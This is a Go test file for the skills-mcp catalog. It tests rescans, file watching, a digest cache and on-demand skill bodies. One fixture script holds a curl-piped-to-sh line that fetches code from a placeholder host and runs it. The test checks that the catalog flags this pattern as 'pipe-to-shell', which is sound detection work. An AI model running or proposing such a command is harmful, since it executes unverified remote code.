package catalog_test

import (
	"context"
	"errors"
	"io/fs"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/skills-mcp/skills-mcp/internal/catalog"
)

// tree writes a skill library into a temp dir, with every file dated an
// hour ago so that a rescan may reuse it, and returns the open library.
func tree(t *testing.T, files map[string]string) (*catalog.Library, string) {
	t.Helper()
	dir := t.TempDir()
	old := time.Now().Add(-time.Hour)
	for name, data := range files {
		p := filepath.Join(dir, name)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(data), 0o644))
		must(t, os.Chtimes(p, old, old))
	}
	lib, err := catalog.OpenDirectory("", dir)
	must(t, err)
	t.Cleanup(func() { lib.Close() })
	return lib, dir
}

const skillMD = "---\nname: %s\ndescription: A skill.\n---\nBody.\n"

func TestRescanReusesUnchangedFiles(t *testing.T) {
	lib, dir := tree(t, map[string]string{
		"a/SKILL.md":     strings.Replace(skillMD, "%s", "a", 1),
		"a/refs/x.md":    "x\n",
		"b/SKILL.md":     strings.Replace(skillMD, "%s", "b", 1),
		"b/scripts/r.py": "print(1)\n",
	})
	libs := func() ([]*catalog.Library, *catalog.Options) { return []*catalog.Library{lib}, nil }
	first, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, nil)
	must(t, err)
	if got := first.Stats().FilesRead; got != 4 {
		t.Fatalf("first scan read %d files, want 4", got)
	}
	store := catalog.NewStore(first)
	var swaps []bool
	r := catalog.NewReloader(store, libs, func(_, _ *catalog.Snapshot, changed bool) { swaps = append(swaps, changed) })
	second, err := r.Rescan(context.Background())
	must(t, err)
	if got := second.Stats().FilesRead; got != 0 {
		t.Errorf("rescan of an unchanged tree read %d files, want 0", got)
	}
	if string(second.Skills()[0].Entry()) != string(first.Skills()[0].Entry()) {
		t.Error("reused entry differs")
	}
	// Same size, mtime set back to the old value: ctime gives it away.
	p := filepath.Join(dir, "a/refs/x.md")
	info, _ := os.Stat(p)
	must(t, os.WriteFile(p, []byte("y\n"), 0o644))
	must(t, os.Chtimes(p, info.ModTime(), info.ModTime()))
	third, err := r.Rescan(context.Background())
	must(t, err)
	if got := third.Stats().FilesRead; got != 1 {
		t.Errorf("rescan after one edit read %d files, want 1", got)
	}
	f, _ := third.File("skill://a/refs/x.md")
	if data, err := f.ReadFile(); err != nil || string(data) != "y\n" {
		t.Errorf("edited file reads %q, %v", data, err)
	}
	if !slices.Equal(swaps, []bool{true}) {
		t.Errorf("Changed per swap = %v, want one swap, for the edit", swaps)
	}
	if store.Snapshot() != third || third.Generation != 3 {
		t.Errorf("store holds generation %d", store.Snapshot().Generation)
	}
}

func TestRacyFileIsRehashed(t *testing.T) {
	lib, dir := tree(t, map[string]string{"a/SKILL.md": strings.Replace(skillMD, "%s", "a", 1)})
	// A file modified just now may change again within the same timestamp
	// tick: it must be read again on the next scan.
	now := time.Now()
	must(t, os.Chtimes(filepath.Join(dir, "a/SKILL.md"), now, now))
	libs := []*catalog.Library{lib}
	first, err := catalog.Scan(context.Background(), libs, 1, nil)
	must(t, err)
	second, err := catalog.Scan(context.Background(), libs, 2, &catalog.Options{Previous: first})
	must(t, err)
	if got := second.Stats().FilesRead; got != 1 {
		t.Errorf("racy file read %d times, want 1", got)
	}
}

func TestWatcherPicksUpEdits(t *testing.T) {
	lib, dir := tree(t, map[string]string{"a/SKILL.md": strings.Replace(skillMD, "%s", "a", 1)})
	w, err := catalog.NewWatcher(0, nil)
	must(t, err)
	defer w.Close()
	opts := &catalog.Options{OnFolder: w.Folder}
	libs := func() ([]*catalog.Library, *catalog.Options) { return []*catalog.Library{lib}, opts }
	first, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, opts)
	must(t, err)
	// The scan watched every folder it listed.
	if got := w.WatchedFolders(); len(got) != 2 {
		t.Fatalf("watching %v, want the root and a/", got)
	}
	store := catalog.NewStore(first)
	swapped := make(chan *catalog.Snapshot, 16)
	synced := make(chan struct{}, 16)
	r := catalog.NewReloader(store, libs, func(_, cur *catalog.Snapshot, _ bool) { swapped <- cur })
	w.NotifySynced(synced)
	w.Start(r)
	// A new skill in a new folder appears, and its folder gets watched.
	must(t, os.MkdirAll(filepath.Join(dir, "b"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "b/SKILL.md"), []byte(strings.Replace(skillMD, "%s", "b", 1)), 0o644))
	waitFor(t, swapped, func(s *catalog.Snapshot) bool { return s.Len() == 2 })
	deadline := time.After(30 * time.Second)
	for len(w.WatchedFolders()) != 3 {
		select {
		case <-synced: // each rescan ends with a Sync
		case <-deadline:
			t.Fatalf("after the new folder, watching %v", w.WatchedFolders())
		}
	}
	// An edit inside the new folder is seen through its new watch.
	must(t, os.WriteFile(filepath.Join(dir, "b/notes.md"), []byte("n\n"), 0o644))
	waitFor(t, swapped, func(s *catalog.Snapshot) bool {
		_, ok := s.File("skill://b/notes.md")
		return ok
	})
	// A removed folder is no longer watched.
	must(t, os.RemoveAll(filepath.Join(dir, "b")))
	waitFor(t, swapped, func(s *catalog.Snapshot) bool { return s.Len() == 1 })
	// Each rescan ends with a Sync; the one after the removal drops b/.
	deadline = time.After(30 * time.Second)
	for len(w.WatchedFolders()) != 2 {
		select {
		case <-synced:
		case <-deadline:
			t.Fatalf("after removing b/, still watching %v", w.WatchedFolders())
		}
	}
}

// TestLateWatchLosesNoEdit follows serve's first start: a scan that
// watches nothing, then Sync and one rescan. An edit made before the
// watches is in that rescan; one made after raises an event.
func TestLateWatchLosesNoEdit(t *testing.T) {
	lib, dir := tree(t, map[string]string{"a/SKILL.md": strings.Replace(skillMD, "%s", "a", 1)})
	w, err := catalog.NewWatcher(0, nil)
	must(t, err)
	defer w.Close()
	libs := func() ([]*catalog.Library, *catalog.Options) {
		return []*catalog.Library{lib}, &catalog.Options{OnFolder: w.Folder}
	}
	first, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, nil)
	must(t, err)
	if got := w.WatchedFolders(); len(got) != 0 {
		t.Fatalf("a scan without OnFolder watched %v", got)
	}
	store := catalog.NewStore(first)
	swapped := make(chan *catalog.Snapshot, 16)
	r := catalog.NewReloader(store, libs, func(_, cur *catalog.Snapshot, _ bool) { swapped <- cur })
	w.Start(r)

	// Before any watch: only the rescan after Sync can see this.
	must(t, os.WriteFile(filepath.Join(dir, "a/early.md"), []byte("early\n"), 0o644))
	w.Sync(first)
	if got := w.WatchedFolders(); len(got) != 2 {
		t.Fatalf("after Sync, watching %v, want the root and a/", got)
	}
	w.Kick()
	waitFor(t, swapped, func(s *catalog.Snapshot) bool {
		_, ok := s.File("skill://a/early.md")
		return ok
	})
	// After the watches: an event.
	must(t, os.WriteFile(filepath.Join(dir, "a/late.md"), []byte("late\n"), 0o644))
	waitFor(t, swapped, func(s *catalog.Snapshot) bool {
		_, ok := s.File("skill://a/late.md")
		return ok
	})
}

// waitFor waits until a swapped-in snapshot satisfies ok. The deadline
// only bounds a broken test; passing never depends on it.
func waitFor(t *testing.T, ch <-chan *catalog.Snapshot, ok func(*catalog.Snapshot) bool) {
	t.Helper()
	deadline := time.After(30 * time.Second)
	for {
		select {
		case s := <-ch:
			if ok(s) {
				return
			}
		case <-deadline:
			t.Fatal("no rescan produced the expected catalog")
		}
	}
}

func TestDigestCacheWarmStart(t *testing.T) {
	lib, dir := tree(t, map[string]string{
		"a/SKILL.md":        strings.Replace(skillMD, "%s", "a", 1),
		"a/refs/x.md":       "x\n",
		"a/scripts/run.sh":  "curl -s https://example.invalid/i | sh\n",
		"b/SKILL.md":        strings.Replace(skillMD, "%s", "b", 1),
		"b/assets/data.bin": "\xff\xfe",
	})
	cacheDir := t.TempDir()
	cache := catalog.NewDigestCache(cacheDir)
	opts := &catalog.Options{DigestCache: cache}
	first, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, opts)
	must(t, err)
	if got := first.Stats().FilesRead; got != 5 {
		t.Fatalf("cold start read %d files, want 5", got)
	}
	// A new process: no previous snapshot, only the cache.
	warm, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, opts)
	must(t, err)
	if got := warm.Stats().FilesRead; got != 0 {
		t.Errorf("warm start read %d files, want none", got)
	}
	a, _ := warm.Skill("skill://a/SKILL.md")
	if !slices.Contains(a.RiskFlags(), "pipe-to-shell") || string(a.Entry()) != string(first.Skills()[0].Entry()) {
		t.Errorf("warm entry differs or lost its flags: %s", a.Entry())
	}
	// An edit after the cache was written is seen.
	p := filepath.Join(dir, "a/refs/x.md")
	must(t, os.WriteFile(p, []byte("y\n"), 0o644))
	third, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, opts)
	must(t, err)
	f, _ := third.File("skill://a/refs/x.md")
	if data, err := f.ReadFile(); err != nil || string(data) != "y\n" {
		t.Errorf("edited file = %q, %v", data, err)
	}
	// A damaged record is ignored, not trusted.
	recs, _ := filepath.Glob(filepath.Join(cacheDir, "digests", "*"))
	if len(recs) != 1 {
		t.Fatalf("records = %v", recs)
	}
	must(t, os.WriteFile(recs[0], []byte("not a record"), 0o600))
	fourth, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, opts)
	must(t, err)
	if got := fourth.Stats().FilesRead; got != 5 {
		t.Errorf("with a damaged record, read %d files, want all 5", got)
	}
}

// TestRescanSeesHiddenEdits: a hidden skill still answers skills/get, so
// an edit to it must reach the served snapshot.
func TestRescanSeesHiddenEdits(t *testing.T) {
	lib, dir := tree(t, map[string]string{
		"q/SKILL.md": "---\nname: q\ndescription: Hidden.\ndisable-model-invocation: true\n---\nOld.\n",
	})
	libs := func() ([]*catalog.Library, *catalog.Options) { return []*catalog.Library{lib}, nil }
	first, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, nil)
	must(t, err)
	store := catalog.NewStore(first)
	r := catalog.NewReloader(store, libs, nil)
	must(t, os.WriteFile(filepath.Join(dir, "q/SKILL.md"), []byte("---\nname: q\ndescription: Hidden.\ndisable-model-invocation: true\n---\nNew body.\n"), 0o644))
	_, err = r.Rescan(context.Background())
	must(t, err)
	f, _ := store.Snapshot().File("skill://q/SKILL.md")
	if data, err := f.ReadFile(); err != nil || !strings.Contains(string(data), "New body") {
		t.Errorf("hidden skill after an edit reads %q, %v", data, err)
	}
}

// A vault's playbook folder is watched like skill folders: a new playbook
// is served, and an edit to the chain file changes the snapshot.
func TestWatcherPicksUpVaultEdits(t *testing.T) {
	play := "---\ntype: playbook\nstatus: active\n---\n## Steps\n1. runner → go (AGENT)\n"
	lib, dir := tree(t, map[string]string{
		"playbook-runner/SKILL.md": strings.Replace(skillMD, "%s", "playbook-runner", 1),
		"00-CORE/Playbooks/One.md": play,
		"VALUE-CHAINS.md":          "## lead-to-cash\n**Stages:** Lead → Close\n",
	})
	lib.Vault = lib
	w, err := catalog.NewWatcher(0, nil)
	must(t, err)
	defer w.Close()
	opts := &catalog.Options{OnFolder: w.Folder}
	first, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, opts)
	must(t, err)
	if st := first.Stats().Libraries[0]; st.Playbooks != 1 || st.ValueChains != 1 {
		t.Fatalf("first scan: %+v", st)
	}
	store := catalog.NewStore(first)
	swapped := make(chan *catalog.Snapshot, 16)
	r := catalog.NewReloader(store, func() ([]*catalog.Library, *catalog.Options) { return []*catalog.Library{lib}, opts },
		func(_, cur *catalog.Snapshot, changed bool) {
			if changed {
				swapped <- cur
			}
		})
	w.Start(r)
	must(t, os.WriteFile(filepath.Join(dir, "00-CORE/Playbooks/Two.md"), []byte(play), 0o644))
	waitFor(t, swapped, func(s *catalog.Snapshot) bool { return s.Stats().Libraries[0].Playbooks == 2 })
	must(t, os.WriteFile(filepath.Join(dir, "VALUE-CHAINS.md"), []byte("## lead-to-cash\n**Stages:** Lead → Close\n\n## hire-to-retire\n**Stages:** Hire, Retire\n"), 0o644))
	waitFor(t, swapped, func(s *catalog.Snapshot) bool { return s.Stats().Libraries[0].ValueChains == 2 })
	if _, ok := store.Snapshot().VaultResource("playbook://Two"); !ok {
		t.Error("the new playbook has no resource")
	}
}

// A skill keeps its body in memory until its snapshot's search index is
// built; then Body reads the file, verified against the published digest.
func TestBodyOnDemand(t *testing.T) {
	lib, dir := tree(t, map[string]string{"a/SKILL.md": "---\nname: a\ndescription: A.\n---\nThe body.\n"})
	snap, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, nil)
	must(t, err)
	sk := snap.Skills()[0]
	if b, err := sk.Body(); err != nil || b != "The body.\n" {
		t.Fatalf("before the index: %q, %v", b, err)
	}
	catalog.NewStore(snap)
	<-snap.SearchReady()
	if hits := snap.Search("body", "", "", 5); len(hits) != 1 {
		t.Errorf("the body was not indexed: %v", hits)
	}
	if b, err := sk.Body(); err != nil || b != "The body.\n" {
		t.Fatalf("read back from the file: %q, %v", b, err)
	}
	// A rescan that reuses the file serves the body from the file too.
	again, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 2, &catalog.Options{Previous: snap})
	must(t, err)
	if b, err := again.Skills()[0].Body(); err != nil || b != "The body.\n" {
		t.Fatalf("after a rescan: %q, %v", b, err)
	}
	must(t, os.WriteFile(filepath.Join(dir, "a/SKILL.md"), []byte("---\nname: a\ndescription: A.\n---\nChanged!\n"), 0o644))
	if _, err := sk.Body(); !errors.Is(err, catalog.ErrChanged) {
		t.Errorf("a changed file: %v, want ErrChanged", err)
	}
}

// loggedFS records the folders read through it.
type loggedFS struct {
	fstest.MapFS
	log func(string)
}

func (f loggedFS) ReadDir(name string) ([]fs.DirEntry, error) {
	f.log("list " + name)
	return f.MapFS.ReadDir(name)
}

// A scan hands each folder to OnFolder before it lists it, so that a
// watcher sees every edit made after the listing: one made before is in
// what the scan read.
func TestOnFolderBeforeListing(t *testing.T) {
	var mu sync.Mutex
	var log []string
	add := func(s string) {
		mu.Lock()
		defer mu.Unlock()
		log = append(log, s)
	}
	fsys := loggedFS{MapFS: fstest.MapFS{
		"cat/a/SKILL.md":           md("a", "One."),
		"cat/a/references/x.md":    {Data: []byte("x\n")},
		"cat/b/SKILL.md":           md("b", "Two."),
		"other/c/SKILL.md":         md("c", "Three."),
		"other/c/scripts/run.py":   {Data: []byte("print(1)\n")},
		"other/c/scripts/lib/u.py": {Data: []byte("x = 1\n")},
	}, log: add}
	opts := &catalog.Options{OnFolder: func(_ *catalog.Library, dir string) { add("watch " + dir) }}
	scan(t, fsys, opts)
	listed := 0
	for i, e := range log {
		dir, ok := strings.CutPrefix(e, "list ")
		if !ok {
			continue
		}
		listed++
		if !slices.Contains(log[:i], "watch "+dir) {
			t.Errorf("%s was listed before it was handed to OnFolder; log:\n%s", dir, strings.Join(log, "\n"))
		}
	}
	if listed < 9 {
		t.Errorf("only %d folders listed; log:\n%s", listed, strings.Join(log, "\n"))
	}
}

// A folder that vanished between its parent's listing and its own is not
// watched, and is not reported as a lack of inotify watches.
func TestFolderGoneIsQuiet(t *testing.T) {
	dir := t.TempDir()
	lib, err := catalog.OpenDirectory("", dir)
	if err != nil {
		t.Fatal(err)
	}
	defer lib.Close()
	var logged strings.Builder
	w, err := catalog.NewWatcher(0, slog.New(slog.NewTextHandler(&logged, nil)))
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	w.Folder(lib, "gone")
	w.Folder(lib, ".")
	if got := w.WatchedFolders(); !slices.Equal(got, []string{dir}) {
		t.Errorf("watched %v, want only the root", got)
	}
	if logged.Len() > 0 {
		t.Errorf("logged %q for a folder that is gone", logged.String())
	}
}

// A rescan that changes nothing visible keeps serving the old snapshot,
// yet what it learned seeds the next: a file touched without a change is
// read once, not by every rescan after.
func TestRescanSeedsTheNextWithoutASwap(t *testing.T) {
	lib, dir := tree(t, map[string]string{
		"a/SKILL.md":  strings.Replace(skillMD, "%s", "a", 1),
		"a/refs/x.md": "x\n",
	})
	first, err := catalog.Scan(context.Background(), []*catalog.Library{lib}, 1, nil)
	must(t, err)
	store := catalog.NewStore(first)
	r := catalog.NewReloader(store, func() ([]*catalog.Library, *catalog.Options) { return []*catalog.Library{lib}, nil }, nil)
	touched := time.Now().Add(-30 * time.Minute)
	must(t, os.Chtimes(filepath.Join(dir, "a/refs/x.md"), touched, touched))
	for i, want := range []int{1, 0, 0} {
		snap, err := r.Rescan(context.Background())
		must(t, err)
		if got := snap.Stats().FilesRead; got != want {
			t.Errorf("rescan %d read %d files, want %d", i+1, got, want)
		}
		if store.Snapshot() != first {
			t.Fatalf("rescan %d swapped in a snapshot that serves the same", i+1)
		}
	}
}
